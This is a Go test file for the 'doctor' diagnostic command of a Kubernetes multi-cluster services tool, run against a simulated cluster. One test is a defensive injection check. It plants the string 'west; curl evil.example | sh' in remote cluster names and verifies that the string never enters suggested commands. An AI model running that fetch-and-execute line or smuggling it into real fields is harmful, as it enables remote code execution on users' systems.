// Copyright The mcs-apiserver Authors.
// SPDX-License-Identifier: Apache-2.0

package doctor_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/mcs-apiserver/mcs-apiserver/cmd/kubectl-mcs/app/cluster"
	"github.com/mcs-apiserver/mcs-apiserver/cmd/kubectl-mcs/app/clustertest"
	"github.com/mcs-apiserver/mcs-apiserver/cmd/kubectl-mcs/app/commandtest"
	"github.com/mcs-apiserver/mcs-apiserver/cmd/kubectl-mcs/app/doctor"
	"github.com/mcs-apiserver/mcs-apiserver/cmd/kubectl-mcs/app/exitcode"
	"github.com/mcs-apiserver/mcs-apiserver/cmd/kubectl-mcs/diagnosis"
	clustersetv1alpha1 "github.com/mcs-apiserver/mcs-apiserver/pkg/apis/clusterset/v1alpha1"
	"github.com/mcs-apiserver/mcs-apiserver/pkg/apis/multicluster"
	multiclusterxv1beta1 "github.com/mcs-apiserver/mcs-apiserver/pkg/apis/multiclusterx/v1beta1"
)

const log = `{"lookup":{"name":"web.shop.svc.clusterset.local","addresses":["10.0.0.7"],"outcome":"Succeeded","servers":["10.0.0.10"]}}
{"connection":{"address":"10.0.0.7:80","outcome":"Succeeded","milliseconds":1}}
{"connection":{"address":"10.2.0.1:8080","outcome":"Succeeded","milliseconds":1}}
{"done":true}
`

// site is a cluster, as a user sees it who may read everything but APIServices. It runs Pods.
type site struct {
	objects map[string]any
	// forbidden are the paths that may not be read or written.
	forbidden []string
	log       string

	mu   sync.Mutex
	pods []string
}

const (
	multiclusterx = "/apis/multicluster.x-k8s.io/v1beta1/namespaces/shop/"
	pods          = "/api/v1/namespaces/shop/pods"
	deployments   = "/apis/apps/v1/namespaces/mcs-system/deployments"
)

// newSite returns the cluster east, which imports shop/web from the west.
func newSite(changes ...func(*site)) *site {
	clusterSetVersion := clustersetv1alpha1.SchemeGroupVersion.String()
	imported := clustertest.NewImport()
	imported.TypeMeta = metav1.TypeMeta{APIVersion: multiclusterxv1beta1.SchemeGroupVersion.String(), Kind: "ServiceImport"}
	imported.Status.Conditions[0].LastTransitionTime = clustertest.Before(0)
	derived := clustertest.NewService(multicluster.DerivedServiceName("shop", "web"), func(service *corev1.Service) {
		service.TypeMeta = metav1.TypeMeta{APIVersion: "v1", Kind: "Service"}
		service.Labels, service.Spec.ClusterIPs = map[string]string{multicluster.ManagedByLabel: multicluster.ManagedBy}, []string{"10.0.0.7"}
	})
	exported := clustertest.NewSlice("west", discoveryv1.AddressTypeIPv4, "10.2.0.1")
	slice := discoveryv1.EndpointSlice{
		ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "derived-1", Labels: map[string]string{multicluster.SourceClusterLabel: "west"}},
		Endpoints:  exported.Spec.Endpoints, Ports: exported.Spec.Ports, AddressType: exported.Spec.AddressType,
	}
	s := &site{
		forbidden: []string{"/apis/apiregistration.k8s.io/v1/apiservices"}, log: log,
		objects: map[string]any{
			"/version":                             map[string]string{"gitVersion": "v1.36.3"},
			commandtest.ClusterSetPath + "members": commandtest.List(clusterSetVersion, "Member", clustertest.Local(), clustertest.NewMember("west", clustersetv1alpha1.MemberConnected)),
			commandtest.ClusterSetPath + "namespaces/shop/exportedservices":       commandtest.List(clusterSetVersion, "ExportedService", clustertest.NewExported("west", time.Hour)),
			commandtest.ClusterSetPath + "namespaces/shop/exportedendpointslices": commandtest.List(clusterSetVersion, "ExportedEndpointSlice", exported),
			multiclusterx + "serviceimports/web":                                  imported,
			"/api/v1/namespaces/shop":                                             map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]string{"name": "shop"}},
			"/api/v1/namespaces/shop/services/" + derived.Name:                    derived,
			"/apis/discovery.k8s.io/v1/namespaces/shop/endpointslices":            commandtest.List("discovery.k8s.io/v1", "EndpointSlice", slice),
			"/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies":          commandtest.List("networking.k8s.io/v1", "NetworkPolicy"),
			"/api/v1/namespaces/mcs-system/secrets":                               commandtest.List("v1", "Secret"),
			deployments: commandtest.List("apps/v1", "Deployment", map[string]any{
				"metadata": map[string]any{"name": "mcs-apiserver", "namespace": "mcs-system"}, "status": map[string]any{"readyReplicas": 2},
				"spec": map[string]any{"replicas": 2, "template": map[string]any{"spec": map[string]any{"containers": []any{map[string]string{"name": "mcs-controller", "image": "mcs-controller:v1"}}}}},
			}),
		},
	}
	for _, change := range changes {
		change(s)
	}
	return s
}

func (s *site) handle(w http.ResponseWriter, r *http.Request) {
	path := r.URL.Path
	switch object, found := s.objects[path]; {
	case slices.Contains(s.forbidden, path):
		refuse(w, apierrors.NewForbidden(schema.GroupResource{Resource: "things"}, "", nil))
	case strings.HasPrefix(path, pods) && r.Method != http.MethodGet:
		s.mu.Lock()
		s.pods = append(s.pods, r.Method)
		s.mu.Unlock()
		commandtest.Answer(w, http.StatusOK, pod())
	case strings.HasPrefix(path, pods+"/mcs-doctor-") && strings.HasSuffix(path, "/log"):
		_, _ = w.Write([]byte(s.log))
	case strings.HasPrefix(path, pods+"/mcs-doctor-"):
		commandtest.Answer(w, http.StatusOK, pod())
	case found:
		commandtest.Answer(w, http.StatusOK, object)
	default:
		refuse(w, apierrors.NewNotFound(schema.GroupResource{Resource: "things"}, path))
	}
}

func pod() corev1.Pod {
	return corev1.Pod{
		TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"}, ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "mcs-doctor-x"},
		Spec: corev1.PodSpec{NodeName: "node-1"}, Status: corev1.PodStatus{Phase: corev1.PodSucceeded},
	}
}

func refuse(w http.ResponseWriter, err *apierrors.StatusError) {
	err.ErrStatus.TypeMeta = metav1.TypeMeta{APIVersion: "v1", Kind: "Status"}
	commandtest.Answer(w, int(err.ErrStatus.Code), err.ErrStatus)
}

// run runs the command in the cluster.
func (s *site) run(t *testing.T, args ...string) (stdout, stderr string, code int) {
	t.Helper()
	return commandtest.Servers{{Context: "east", Handler: s.handle}}.Run(t, append([]string{"doctor"}, args...)...)
}

// R545, R546: nothing is broken, and a Pod saw it. It is deleted.
func TestServiceThatResponds(t *testing.T) {
	s := newSite()
	out, errOut, code := s.run(t, "web")
	for _, want := range []string{
		"Service web in namespace shop, as seen by cluster east in ClusterSet production (context east)\n",
		"? registration  the registration of the API could not be read: permission denied: ",
		"✓ server        2 of 2 replicas", "✓ export        exported by west\n", "✓ import        imported as ClusterSetIP with 10.0.0.7, ports http:80/TCP\n",
		"✓ lookup        web.shop.svc.clusterset.local is 10.0.0.7 in a Pod on node node-1\n", "✓ pods          west: 1 endpoints accept connections from a Pod on node node-1\n",
		"✓ connection    10.0.0.7:80: connected\n", "\nNothing is broken: the service responds.\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing", want)
		}
	}
	if code != 0 || errOut != "" || !slices.Equal(s.pods, []string{http.MethodPost, http.MethodDelete}) {
		t.Errorf("exit code %d, Pods %v, errors %q", code, s.pods, errOut)
	}
	if t.Failed() {
		t.Log(out)
	}
}

// R545: what is broken is told as text and as data, with exit code 1.
func TestServiceThatDoesNotRespond(t *testing.T) {
	broken := func(s *site) {
		s.log = strings.ReplaceAll(log, `"10.2.0.1:8080","outcome":"Succeeded"`, `"10.2.0.1:8080","outcome":"TimedOut"`)
		s.log = strings.ReplaceAll(s.log, `"10.0.0.7:80","outcome":"Succeeded"`, `"10.0.0.7:80","outcome":"TimedOut"`)
	}
	out, errOut, code := newSite(broken).run(t, "web")
	for _, want := range []string{"✗ pods          west: endpoints do not accept connections", "↳ connection ", "\nFirst broken hop: pods (context east)\n  What is wrong: west: ", "  What to do:    check NetworkPolicies", "docs/clustersets.md#pod-networks\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing in:\n%s", want, out)
		}
	}
	if code != 1 || !strings.Contains(errOut, `error: service "web" in namespace "shop": the first broken hop is pods: west: `) {
		t.Errorf("exit code %d, errors %q", code, errOut)
	}
	out, _, code = newSite(broken).run(t, "web", "-o", "json")
	var report diagnosis.Report
	if err := json.Unmarshal([]byte(out), &report); err != nil {
		t.Fatalf("%v in %s", err, out)
	}
	if code != 1 || report.Verdict != diagnosis.VerdictBroken || report.FirstBroken == nil || report.FirstBroken.Hop != diagnosis.Pods || report.Service != "web" || report.ClusterID != "east" {
		t.Errorf("exit code %d, report %+v", code, report)
	}
}

// R546: no Pod is created without permission, nor if the user does not want one.
func TestWithoutPod(t *testing.T) {
	s := newSite()
	out, _, code := s.run(t, "web", "--probe=false")
	if code != 0 || len(s.pods) > 0 || !strings.Contains(out, "? connection    not tried from a Pod: --probe=false\n") || !strings.HasSuffix(out, "\nNothing is broken.\n") {
		t.Errorf("exit code %d, Pods %v:\n%s", code, s.pods, out)
	}
	out, _, code = newSite(func(s *site) { s.forbidden = append(s.forbidden, pods) }).run(t, "web")
	if code != 0 || !strings.Contains(out, "? lookup        not tried from a Pod: permission denied: ask for this permission") {
		t.Errorf("exit code %d:\n%s", code, out)
	}
	out, _, code = newSite(func(s *site) { delete(s.objects, "/api/v1/namespaces/shop") }).run(t, "web")
	if code != 1 || !strings.Contains(out, "First broken hop: namespace") || !strings.Contains(out, "namespace shop does not exist\n") {
		t.Errorf("exit code %d:\n%s", code, out)
	}
	out, _, code = newSite(func(s *site) { s.objects[deployments] = commandtest.List("apps/v1", "Deployment") }).run(t, "web")
	if code != 0 || !strings.Contains(out, "--probe-image") {
		t.Errorf("exit code %d:\n%s", code, out)
	}
}

// R587: other commands ask for the same report, and nothing is printed. A Pod is created only if they ask for one.
func TestOtherCommandsAsk(t *testing.T) {
	s := newSite()
	server := httptest.NewServer(http.HandlerFunc(s.handle))
	defer server.Close()
	streams, _, out, _ := genericiooptions.NewTestIOStreams()
	f := cluster.NewFactory(streams)
	f.Changed = func(string) bool { return false }
	*f.Flags.KubeConfig = commandtest.Kubeconfig(t, map[string]string{"east": server.URL})
	question := doctor.Question{Context: "east", Namespace: "shop", Service: "web"}
	report, err := doctor.Diagnose(t.Context(), f, question)
	last := report.Checks[len(report.Checks)-1]
	if err != nil || len(s.pods) > 0 || report.Responds || last.Hop != diagnosis.Connect || last.Message != "not tried from a Pod: no Pod was asked for" {
		t.Errorf("got %+v, %v, Pods %v", report, err, s.pods)
	}
	question.Probe = true
	if report, err = doctor.Diagnose(t.Context(), f, question); err != nil || !report.Responds || !slices.Equal(s.pods, []string{http.MethodPost, http.MethodDelete}) {
		t.Errorf("got %+v, %v, Pods %v", report, err, s.pods)
	}
	if out.Len() > 0 {
		t.Errorf("printed %s", out)
	}
	if _, err := doctor.Diagnose(t.Context(), f, doctor.Question{Context: "none"}); err == nil {
		t.Error("a context that does not exist is no error")
	}
}

// R545: the ClusterSet alone is checked without a service.
func TestClusterSet(t *testing.T) {
	s := newSite()
	out, errOut, code := s.run(t)
	if code != 0 || len(s.pods) > 0 || strings.Contains(out, "✓ export") || !strings.Contains(out, "ClusterSet, as seen by cluster east in ClusterSet production (context east)\n") {
		t.Errorf("exit code %d, errors %q:\n%s", code, errOut, out)
	}
}

// R545: exit code 2 means that the doctor could not look.
func TestCouldNotLook(t *testing.T) {
	members, exports := commandtest.ClusterSetPath+"members", commandtest.ClusterSetPath+"namespaces/shop/exportedservices"
	for _, test := range []struct {
		name string
		args []string
		want string
	}{
		{"two services", []string{"a", "b"}, "exactly one Service name"},
		{"no name", []string{"a.b"}, "not a valid Service name"},
		{"unknown flag", []string{"--nonsense"}, "unknown flag"},
		{"output", []string{"-o", "table"}, "--output"},
		{"timeout", []string{"--probe-timeout", "0s"}, "--probe-timeout"},
		{"context", []string{"--context", "nowhere"}, `context "nowhere" does not exist`},
		{"other context", []string{"--contexts", "nowhere"}, `context "nowhere" does not exist`},
		{"permissions", []string{"web", "--probe=false"}, "what decides could not be read"},
	} {
		t.Run(test.name, func(t *testing.T) {
			_, errOut, code := newSite(func(s *site) { s.forbidden = append(s.forbidden, members, exports) }).run(t, test.args...)
			if code != 2 || !strings.Contains(errOut, test.want) {
				t.Errorf("exit code %d, errors %q", code, errOut)
			}
		})
	}
	start := time.Now()
	_, errOut, code := commandtest.Servers{{Context: "east", Handler: abort}}.Run(t, "doctor")
	if code != 2 || !strings.Contains(errOut, "the kube-apiserver is unreachable") {
		t.Errorf("exit code %d, errors %q", code, errOut)
	}
	if took := time.Since(start); took > 10*time.Second {
		t.Errorf("requests were repeated for %s", took)
	}
}

// abort closes the connection. Clients repeat the request after a second.
func abort(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }

// R546: a Pod that is created although the user interrupts the command meanwhile is deleted.
func TestInterruptWhileThePodIsCreated(t *testing.T) {
	ctx, interrupt := context.WithCancel(t.Context())
	s := newSite()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && r.URL.Path == pods {
			interrupt()
			select { // a client that does not wait ends the request
			case <-r.Context().Done():
			case <-time.After(100 * time.Millisecond):
			}
		}
		s.handle(w, r)
	}))
	defer server.Close()
	_, _, err := commandtest.Run(ctx, "doctor", "web", "-n", "shop", "--context", "east", "--kubeconfig", commandtest.Kubeconfig(t, map[string]string{"east": server.URL}))
	if err == nil || !strings.Contains(err.Error(), "interrupted") || exitcode.Of(err) != 2 {
		t.Errorf("got error %v with exit code %d", err, exitcode.Of(err))
	}
	if !slices.Equal(s.pods, []string{http.MethodPost, http.MethodDelete}) {
		t.Errorf("Pods %v", s.pods)
	}
}

// R546: a Pod that may not be deleted is named, with the command that deletes it.
func TestPodMayNotBeDeleted(t *testing.T) {
	s := newSite()
	handler := func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodDelete {
			refuse(w, apierrors.NewForbidden(schema.GroupResource{Resource: "pods"}, "mcs-doctor-x", errors.New(`User "dev" cannot delete resource "pods"`)))
			return
		}
		s.handle(w, r)
	}
	out, errOut, code := commandtest.Servers{{Context: "east", Handler: handler}}.Run(t, "doctor", "web")
	for _, want := range []string{"! lookup        Pod mcs-doctor-x could not be deleted: permission denied: ", "→ delete it; `kubectl --context east delete pod -n shop mcs-doctor-x`", "\nNothing is broken: the service responds.\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing in:\n%s", want, out)
		}
	}
	if code != 0 || errOut != "" {
		t.Errorf("exit code %d, errors %q", code, errOut)
	}
}

// What another cluster says about itself does not become a part of commands.
func TestNamesFromOtherClustersAreNotCommands(t *testing.T) {
	const attack = "west; curl evil.example | sh"
	west := newSite(func(s *site) {
		local := clustertest.NewMember("west", clustersetv1alpha1.MemberLocal)
		local.Status.ClusterID = attack
		s.objects[commandtest.ClusterSetPath+"members"] = commandtest.List(clustersetv1alpha1.SchemeGroupVersion.String(), "Member", local)
		export := clustertest.NewServiceExport("web")
		export.TypeMeta, export.Name = metav1.TypeMeta{APIVersion: multiclusterxv1beta1.SchemeGroupVersion.String(), Kind: "ServiceExport"}, attack
		s.objects[multiclusterx+"serviceexports/web"] = export
		s.objects[deployments] = commandtest.List("apps/v1", "Deployment", map[string]any{
			"metadata": map[string]any{"name": attack, "namespace": "mcs-system"},
			"spec":     map[string]any{"replicas": 2, "template": map[string]any{"spec": map[string]any{"containers": []any{map[string]string{"name": "mcs-controller", "image": "mcs-controller:v1"}}}}},
		})
	})
	servers := commandtest.Servers{{Context: "east", Handler: newSite().handle}, {Context: "west-admin", Handler: west.handle}}
	out, _, _ := servers.Run(t, "doctor", "web", "--contexts", "west-admin", "-o", "json")
	var report diagnosis.Report
	if err := json.Unmarshal([]byte(out), &report); err != nil {
		t.Fatalf("%v in %s", err, out)
	}
	for _, check := range report.Checks {
		if strings.Contains(check.Command, "evil") {
			t.Errorf("got command %q", check.Command)
		}
	}
}

// R545: other clusters are asked, too. One that does not answer does not keep the rest from being checked.
func TestOtherContexts(t *testing.T) {
	west := newSite(func(s *site) {
		s.objects[commandtest.ClusterSetPath+"members"] = commandtest.List(clustersetv1alpha1.SchemeGroupVersion.String(), "Member",
			clustertest.NewMember("west", clustersetv1alpha1.MemberLocal), clustertest.NewMember("east", clustersetv1alpha1.MemberLost))
	})
	servers := commandtest.Servers{
		{Context: "east", Handler: newSite().handle}, {Context: "west-admin", Handler: west.handle},
		{Context: "north", Handler: abort},
	}
	out, errOut, code := servers.Run(t, "doctor", "web", "--contexts", "east,west-admin,north")
	for _, want := range []string{"✓ server        west: 2 of 2 replicas", "! members       west: cluster west does not import from this one, which is Lost there", "? members       the cluster could not be asked", "clocks        the clocks"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing in:\n%s", want, out)
		}
	}
	if code != 0 || errOut != "" {
		t.Errorf("exit code %d, errors %q", code, errOut)
	}
}
